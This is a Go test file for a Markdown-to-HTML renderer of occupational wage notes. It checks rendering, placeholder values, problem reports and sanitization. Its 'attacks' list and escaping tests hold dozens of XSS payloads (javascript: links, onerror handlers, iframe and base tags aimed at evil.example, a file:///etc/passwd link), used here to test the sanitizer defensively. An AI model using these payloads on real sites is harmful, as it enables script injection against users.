package guide

import (
	"context"
	"errors"
	"regexp"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/google/go-cmp/cmp"

	"wageatlas/analytics"
	"wageatlas/analytics/fact"
	"wageatlas/data/lmi"
	"wageatlas/data/notes"
	"wageatlas/data/sample/sampletest"
	"wageatlas/data/warehouse/warehousetest"
)

const front = "---\nroles: 43-4121\ntitle: Assistants\nupdated: 2026-01-02\n---\n"

// bookOf reads one file whose first section has the heading "A"; the body begins on line 7.
func bookOf(t *testing.T, body string) notes.Book {
	t.Helper()
	book, err := notes.Read(fstest.MapFS{"a.md": {Data: []byte(front + "## A\n" + body)}}, "own")
	if err != nil {
		t.Fatal(err)
	}
	return book
}

// htmlOf renders a body, whatever problems it has.
func htmlOf(t *testing.T, body string) (string, notes.Problems) {
	t.Helper()
	book := bookOf(t, body)
	section := book.Sections()[0]
	rendered, problems := render(section, make([]value, 0))
	return string(rendered.html), append(book.Problems, problems...)
}

func TestMarkdown(t *testing.T) {
	for _, test := range []struct{ name, body, want string }{
		{"text", "Plain *and* **strong** `code`.", "<p>Plain <em>and</em> <strong>strong</strong> <code>code</code>.</p>"},
		{"headings", "### b\n\n#### c\n\nd\n---\n", "<h3>b</h3>\n<h4>c</h4>\n<h3>d</h3>"},
		{"list", "3. x\n4. y", `<ol start="3">` + "\n<li>x</li>\n<li>y</li>\n</ol>"},
		{"link", "[a](https://example.org/x?y=1&z=2)", `<p><a href="https://example.org/x?y=1&amp;z=2" rel="noopener">a</a></p>`},
		{"bare link", "See https://example.org.", `<p>See <a href="https://example.org" rel="noopener">https://example.org</a>.</p>`},
		{"mail", "<a@example.org>", `<p><a href="mailto:a@example.org">a@example.org</a></p>`},
		{"in the page", "[pay](#pay)", `<p><a href="#pay">pay</a></p>`},
		{"table", "|a|b|\n|---|--:|\n|c|1|", `<div class="prose-table" role="group" aria-label="Table" tabindex="0"><table>` +
			"\n<thead>\n<tr>\n<th>a</th>\n<th align=\"right\">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>c</td>\n<td align=\"right\">1</td>\n</tr>\n</tbody>\n</table></div>"},
		{"quote", "> said", "<blockquote>\n<p>said</p>\n</blockquote>"},
		{"code keeps braces apart", "`\\{\\{`", "<p><code>\\{\\{</code></p>"},
		{"escaped braces", "\\{\\{wage}}", "<p>{{wage}}</p>"},
		{"no footnotes", "a[^1]\n\n[^1]: https://example.org/b", `<p>a<a href="https://example.org/b" rel="noopener">^1</a></p>`},
	} {
		t.Run(test.name, func(t *testing.T) {
			got, problems := htmlOf(t, test.body)
			if diff := cmp.Diff(test.want, got); diff != "" || len(problems) > 0 {
				t.Errorf("(-want +got):\n%s%v", diff, problems)
			}
		})
	}
}

var (
	tag        = regexp.MustCompile(`<[^>]*>`)
	allowedTag = regexp.MustCompile(`^<(?:/?(?:p|br|hr|h[3-6]|ul|ol|li|strong|em|code|pre|blockquote|table|thead|tbody|tr|th|td|a)` +
		`|ol start="\d+"|t[hd] align="(?:left|right|center)"|a href="(?:https?://|mailto:|#)[^"]*"(?: rel="noopener")?` +
		`|div class="prose-table" role="group" aria-label="Table" tabindex="0"|/div)>$`)
)

// attacks are texts by somebody who wants a script to run, or a page to reach out.
var attacks = []string{
	`<script>alert(1)</script>`,
	"<script>\nalert(1)\n</script>",
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<svg/onload=alert(1)>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<style>body{display:none}</style>`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	`<form action="https://evil.example"><input name=x></form>`,
	`<!-- --!><script>alert(1)</script>`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	"</div></main><script>alert(1)</script>",
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	"[x](java\tscript:alert(1))",
	`[x](&#106;avascript:alert(1))`,
	`[x](&#x6A;&#x61;vascript:alert(1))`,
	`[x](javascript&colon;alert(1))`,
	`[x](  javascript:alert(1) )`,
	`[x](<javascript:alert(1)>)`,
	`[x](vbscript:msgbox(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[x](data:image/svg+xml,<svg/onload=alert(1)>)`,
	`[x](file:///etc/passwd)`,
	`[x](//evil.example/)`,
	`[x](../../index.html)`,
	`[x](https://example.org "\" onmouseover=\"alert(1)")`,
	`[x](https://example.org/"onmouseover="alert(1))`,
	`[x](#"onclick="alert(1))`,
	`[x][r]` + "\n\n" + `[r]: javascript:alert(1)`,
	`<javascript:alert(1)>`,
	`<data:text/html,<script>alert(1)</script>>`,
	`![x](https://evil.example/pixel.gif)`,
	`![x](javascript:alert(1))`,
	`![x](x "onerror=alert(1)")`,
	`![[x](javascript:alert(1))](https://example.org)`,
	`[![x](javascript:alert(1))](https://example.org)`,
	`[a <b](https://example.org/<script>) c>`,
	`**<b onclick="alert(1)">x</b>**`,
	"| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
	"> <script>alert(1)</script>",
	"- <iframe src=javascript:alert(1)>",
	"```html\"><script>alert(1)</script>\n</code><script>alert(1)</script>\n```",
	"    <script>alert(1)</script>",
	"`<script>alert(1)</script>`",
	"### <script>alert(1)</script> {#pay onclick=alert(1)}",
	"<div id=\"pay\" class=\"keyfigures\">x</div>",
	"<table><div class=\"prose-table\">x",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"\u202e<script>alert(1)</script>",
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"http://example.org/<script>alert(1)</script>",
	"www.example.org\"onclick=\"alert(1)",
}

// TestAttacks: whatever the notes hold, the page gets but the elements and attributes of the policy.
func TestAttacks(t *testing.T) {
	for _, attack := range attacks {
		got, _ := htmlOf(t, attack)
		for _, found := range tag.FindAllString(got, -1) {
			if !allowedTag.MatchString(found) {
				t.Errorf("%q becomes %q: %s", attack, got, found)
			}
		}
	}
}

// TestTagsStandAsText: HTML is not passed through, nor does it vanish.
func TestTagsStandAsText(t *testing.T) {
	got, problems := htmlOf(t, "a <b>bold</b> word\n\n<div>block</div>")
	const want = "<p>a &lt;b&gt;bold&lt;/b&gt; word</p>\n<p>&lt;div&gt;block&lt;/div&gt;</p>"
	if got != want || len(problems) > 0 {
		t.Errorf("%s %v, want %s", got, problems, want)
	}
}

func FuzzMarkdown(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	f.Fuzz(func(t *testing.T, body string) {
		file, _ := notes.Parse("a.md", front+"## A\n"+body)
		for _, section := range file.Sections {
			values := make([]value, len(section.Placeholders))
			for i, p := range section.Placeholders {
				values[i] = value{Placeholder: p, answer: fact.Answer{Texts: []string{`<script>"'&`}}}
			}
			rendered, problems := render(section, values)
			for _, found := range tag.FindAllString(string(rendered.html), -1) {
				if !allowedTag.MatchString(found) {
					t.Errorf("%q becomes %q: %s", section.Body, rendered.html, found)
				}
			}
			if strings.Contains(string(rendered.html), tokenStart) {
				t.Errorf("a token is left in %q", rendered.html)
			}
			for _, p := range problems {
				if p.Line < section.Line || p.Line > section.Line+1+strings.Count(section.Body, "\n") {
					t.Errorf("%v lies outside of its section", p)
				}
			}
		}
	})
}

// TestProblems: a link that leads nowhere, a picture, and a placeholder where no
// text stands are told with file and line, and so is what is not loaded; all at once.
func TestProblems(t *testing.T) {
	book := bookOf(t, strings.Join([]string{
		"[x](javascript:alert(1)) and", // line 7
		"[y](roles/25-4031.html).",
		"",
		"![z](https://example.org/z.png)",
		"",
		`[w](https://example.org/{{title "43-4121"}})`, // 12
		"",
		`Pay: {{wage "99-9999" "median" "hourly"}}, {{wage "43-4121" "median" "hourly" 1999}}`, // 14
		`{{outlook "43-4121" "openings" "1998-08"}} {{wge}}`,
	}, "\n"))
	_, err := Compile(context.Background(), sampletest.Shared(t).DB(), book)
	var problems notes.Problems
	if !errors.As(err, &problems) {
		t.Fatal(err)
	}
	want := []string{
		`own/a.md:7: the link "javascript:alert(1)" leads nowhere`,
		`own/a.md:8: the link "roles/25-4031.html" leads nowhere`,
		`own/a.md:10: pictures cannot be shown`,
		`own/a.md:12: a placeholder cannot stand in the address`,
		`own/a.md:14:6: wage: wages of occupation 99-9999 are not in the warehouse`,
		`own/a.md:14:44: wage: 43-4121: figures of May 1999 are not in the warehouse; loaded years: 2014`,
		`own/a.md:15:1: outlook: the outlook of 43-4121 in the edition 1998-08 is not in the warehouse; loaded are the editions 2019-29, 2024-34`,
		`own/a.md:15:46: unknown placeholder "wge"`,
	}
	if len(problems) != len(want) {
		t.Fatalf("%v", problems)
	}
	for i, p := range problems {
		if !strings.HasPrefix(p.String(), want[i]) {
			t.Errorf("%s, want %s", p, want[i])
		}
	}
	for _, line := range want {
		if !strings.Contains(err.Error(), line) {
			t.Errorf("the error does not tell %s", line)
		}
	}
}

// TestPlaceholders shows values as format writes them: a figure that was not
// released is never zero, a top-coded one only a bound.
func TestPlaceholders(t *testing.T) {
	for _, test := range []struct{ body, want string }{
		{`{{wage "43-4121" "median" "hourly" 2024}}`, "$17.31"},
		{`**{{wage 43-4121 median annual 2021}}**`, "<strong>$29,450</strong>"},
		{"`{{wage 43-4121 median annual 2021}}`", "<code>$29,450</code>"},
		{`{{wage 11-1011 p90 annual 2024}}`, "$239,200 or more"},
		{`{{wage 25-2021 median hourly 2024}}`, "not released"},
		{`{{employment 43-4121 2019}}`, "85,910"},
		{`{{outlook 43-4121 change_pct 2019-29}}`, "−3.8%"},
		{`{{outlook 43-4121 jobs_base 2019-29}} to {{outlook 43-4121 jobs_projected 2019-29}}`, "90,500 to 87,000"},
		{`{{outlook 43-4121 words}}`, "decline"},
		{`{{industry 43-4121 best_paying 1}}`, "Educational Services"},
		{`{{industry 43-4121 largest 3}}`, "Federal, State, and Local Government; Educational Services; and Information"},
		{`{{attainment 43-4121 master}}`, "10.2%"},
		{`{{wage_year 43-4121}}`, "2025"},
	} {
		g, err := Compile(context.Background(), sampletest.Shared(t).DB(), bookOf(t, test.body))
		if err != nil {
			t.Errorf("%s: %v", test.body, err)
			continue
		}
		if got := string(g.Of("43-4121")[0].HTML); got != "<p>"+test.want+"</p>" {
			t.Errorf("%s becomes %s, want %s", test.body, got, test.want)
		}
		m := analytics.NewMeta()
		g.Cite(&m, "43-4121")
		if len(m.Sources) == 0 {
			t.Errorf("%s cites nothing", test.body)
		}
	}
}

// TestValuesAreEscaped: a title out of a file is text, in a paragraph and in a table.
func TestValuesAreEscaped(t *testing.T) {
	db := sampletest.Open(t).DB()
	if _, err := db.Exec(`UPDATE occupation SET title = '*A* </script><img src=x onerror=alert(1)> "q" | & [l](javascript:x)' WHERE soc_code = '43-4121'`); err != nil {
		t.Fatal(err)
	}
	g, err := Compile(context.Background(), db, bookOf(t, "{{title 43-4121}}\n\n|a|b|\n|-|-|\n|{{title 43-4121}}|c|"))
	if err != nil {
		t.Fatal(err)
	}
	got := string(g.Of("43-4121")[0].HTML)
	const text = `*A* &lt;/script&gt;&lt;img src=x onerror=alert(1)&gt; &#34;q&#34; | &amp; [l](javascript:x)`
	if !strings.Contains(got, "<p>"+text+"</p>") || !strings.Contains(got, "<td>"+text+"</td>\n<td>c</td>") {
		t.Error(got)
	}
}

// TestShippedNotesNeedNothing: in a warehouse without any figures the shipped notes
// have no problem; what they say in figures is left out, and the rest is there.
func TestShippedNotesNeedNothing(t *testing.T) {
	g, err := Compile(context.Background(), warehousetest.Memory(t).DB(), notes.Shipped())
	if err != nil {
		t.Fatal(err)
	}
	whole, err := Compile(context.Background(), sampletest.Shared(t).DB(), notes.Shipped())
	if err != nil {
		t.Fatal(err)
	}
	for _, soc := range []lmi.SOC{"43-4121", "25-4031", "25-4022"} {
		less, more := joined(g.Of(soc)), joined(whole.Of(soc))
		if len(less) == 0 || len(less) >= len(more) || !strings.Contains(less, "step from assistant to technician") || !strings.Contains(less, "Getting started") {
			t.Errorf("%s: %d bytes without figures, %d with", soc, len(less), len(more))
		}
		for _, gone := range []string{"BLS lists", "Wages are of May", "Median an hour"} {
			if strings.Contains(less, gone) || !strings.Contains(more, gone) {
				t.Errorf("%s: %q stands without its figures, or not with them", soc, gone)
			}
		}
		if strings.Contains(less, "not published") || strings.Contains(less, tokenStart) {
			t.Errorf("%s: %s", soc, less)
		}
	}
}

func joined(sections []Section) string {
	var b strings.Builder
	for _, s := range sections {
		b.WriteString(s.Head + "\n" + string(s.HTML) + "\n")
	}
	return b.String()
}

func TestEnumerate(t *testing.T) {
	for want, names := range map[string][]string{
		"A": {"A"}, "A and B": {"A", "B"}, "A, B and C": {"A", "B", "C"}, "A, B; and C": {"A, B", "C"}, "A; B and C; and D": {"A", "B and C", "D"},
	} {
		if got := enumerate(names); got != want {
			t.Errorf("%q: %q, want %q", names, got, want)
		}
	}
}

// TestAbout: what front matter holds is text, and addresses are those that the reader let pass.
func TestAbout(t *testing.T) {
	const hostile = `</script><script>alert(1)</script> "q" & <b>`
	book, err := notes.Read(fstest.MapFS{"a.md": {Data: []byte("---\nroles: 43-4121\ntitle: '" + hostile + "'\nfamily: '" + hostile + "'\nupdated: 2026-03-04\n" +
		"author: {text: '" + hostile + "', url: 'https://example.org/?a=1&b=\"><script>'}\nsources: ['" + hostile + "', https://example.org/b]\n---\n## A\nx\n## B\ny\n")}}, "own")
	if err != nil {
		t.Fatal(err)
	}
	g, err := Compile(context.Background(), warehousetest.Memory(t).DB(), book)
	if err != nil {
		t.Fatal(err)
	}
	section, err := About(g.Of("43-4121"))
	if err != nil {
		t.Fatal(err)
	}
	got := string(section.HTML)
	for _, found := range tag.FindAllString(got, -1) {
		if !allowedTag.MatchString(found) {
			t.Errorf("%s in %s", found, got)
		}
	}
	for _, want := range []string{"Notes on this page: A and B.", "&lt;/script&gt;&lt;script&gt;", "updated March 4, 2026. After: ", `<a href="https://example.org/b" rel="noopener">https://example.org/b</a>.</li>`} {
		if !strings.Contains(got, want) {
			t.Errorf("%q is missing in %s", want, got)
		}
	}
	if strings.Count(got, "<li>") != 1 {
		t.Errorf("the file of two sections is not named once: %s", got)
	}
}

// TestSectionIDs: no two ids of a page are the same, nor those made from them.
func TestSectionIDs(t *testing.T) {
	taken := make(map[string]bool)
	var got []string
	for _, head := range []string{"Pay", "C++", "C", "A head", "A", "資格", "免許", "Notes & <b>", "pay!"} {
		got = append(got, sectionID(head, taken))
	}
	want := []string{"guide-pay", "guide-c", "guide-c-2", "guide-a-head", "guide-a-2", "guide", "guide-2", "guide-notes-b", "guide-pay-2"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// TestNoGuide: a site without notes has none on any page.
func TestNoGuide(t *testing.T) {
	var g *Guide
	m := analytics.NewMeta()
	g.Cite(&m, "43-4121")
	if len(g.Of("43-4121")) > 0 || len(m.Sources) > 0 {
		t.Error("there are notes")
	}
}
